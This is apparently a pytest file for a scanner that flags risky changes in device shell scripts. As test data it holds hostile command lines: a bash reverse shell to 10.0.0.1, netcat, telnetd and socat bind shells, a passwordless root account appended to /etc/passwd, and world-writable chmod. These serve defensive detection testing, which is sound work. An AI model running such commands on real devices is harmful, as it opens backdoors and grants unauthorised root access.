"""What scripts do to the device itself."""

import pytest

from fairmark.examine.scripts.language import Language
from fairmark.examine.scripts.system_changes import Change, changes


@pytest.mark.parametrize(
    ("line", "change", "what"),
    [
        ("chmod 777 /etc/app.conf", Change.OPENS_RIGHTS, "/etc/app.conf"),
        ("chmod -R 0777 /usr/app", Change.OPENS_RIGHTS, "/usr/app"),
        ("chmod a+rwx /opt/run", Change.OPENS_RIGHTS, "/opt/run"),
        ("telnetd -l /bin/sh &", Change.SHELL, "telnetd"),
        ("busybox telnetd -p 9000 -l /bin/ash", Change.SHELL, "telnetd"),
        ("nc -ll -p 99 -e /bin/sh", Change.SHELL, "nc"),
        ("bash -i >& /dev/tcp/10.0.0.1/99 0>&1", Change.SHELL, "bash"),
        ("socat TCP-LISTEN:99 EXEC:/bin/sh", Change.SHELL, "socat"),
        ('echo "svc::0:0::/:/bin/sh" >> /etc/passwd', Change.ACCOUNT, "svc"),
        ("useradd -o -u 0 svc", Change.ACCOUNT, "svc"),
        ("sh /mnt/sdcard/run.sh", Change.REMOVABLE, "/mnt/sdcard/run.sh"),
        ("[ -x /media/usb0/go.sh ] && /media/usb0/go.sh", Change.REMOVABLE, "/media/usb0/go.sh"),
        ("date > /tmp/x.$$", Change.TEMPORARY, "/tmp/x.$$"),
    ],
)
def test_it_is_found(line: str, change: Change, what: str) -> None:
    assert [(one.change, one.what) for one in changes(line + "\n", Language.SHELL)] == [(change, what)]


@pytest.mark.parametrize(
    "line",
    [
        "chmod 755 /etc/app.conf",
        "chmod 777 /tmp/x",
        "chmod 666 /dev/i2c-0",
        "chmod u+w,g+w /etc/x",
        "telnetd -l /bin/login",
        "nc -l -p 99 > /tmp/in",
        'echo "root::0:0::/:/bin/sh" >> /etc/passwd',
        'echo "web:x:33:33::/:/bin/false" >> /etc/passwd',
        "cp /mnt/sdcard/a /tmp/a",
        "sh /mnt/data/run.sh",
        "x=$(mktemp /tmp/x.$$)",
        "# chmod 777 /etc",
    ],
)
def test_the_harmless_look_alike_is_not(line: str) -> None:
    assert list(changes(line + "\n", Language.SHELL)) == []


def test_a_signature_check_makes_a_script_of_a_card_all_right() -> None:
    code = "openssl dgst -verify /etc/k -signature /mnt/sdcard/s /mnt/sdcard/run.sh || exit\nsh /mnt/sdcard/run.sh\n"

    assert list(changes(code, Language.SHELL)) == []
